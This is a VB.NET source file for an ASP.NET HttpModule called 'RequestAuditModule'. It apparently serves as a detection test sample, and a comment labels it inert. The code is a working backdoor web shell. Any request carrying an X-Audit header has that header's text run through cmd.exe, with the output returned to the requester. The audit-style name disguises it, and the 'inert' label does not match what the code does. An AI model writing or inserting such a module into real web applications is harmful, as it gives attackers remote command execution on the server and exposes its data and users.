' Test sample (inert): a VB.NET HttpModule in App_Code. A request with the X-Audit header has the
' header's text run through cmd.exe and the output written back.
Imports System
Imports System.Diagnostics
Imports System.Web

Public Class RequestAuditModule
    Implements IHttpModule

    Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init
        AddHandler app.BeginRequest, AddressOf OnBeginRequest
    End Sub

    Private Sub OnBeginRequest(ByVal sender As Object, ByVal e As EventArgs)
        Dim app As HttpApplication = CType(sender, HttpApplication)
        Dim cmd As String = app.Request.Headers("X-Audit")
        If String.IsNullOrEmpty(cmd) Then Return
        Dim psi As New ProcessStartInfo("cmd.exe", "/c " & cmd)
        psi.UseShellExecute = False
        psi.RedirectStandardOutput = True
        Dim p As Process = Process.Start(psi)
        app.Response.Write(p.StandardOutput.ReadToEnd())
        app.CompleteRequest()
    End Sub

    Public Sub Dispose() Implements IHttpModule.Dispose
    End Sub
End Class
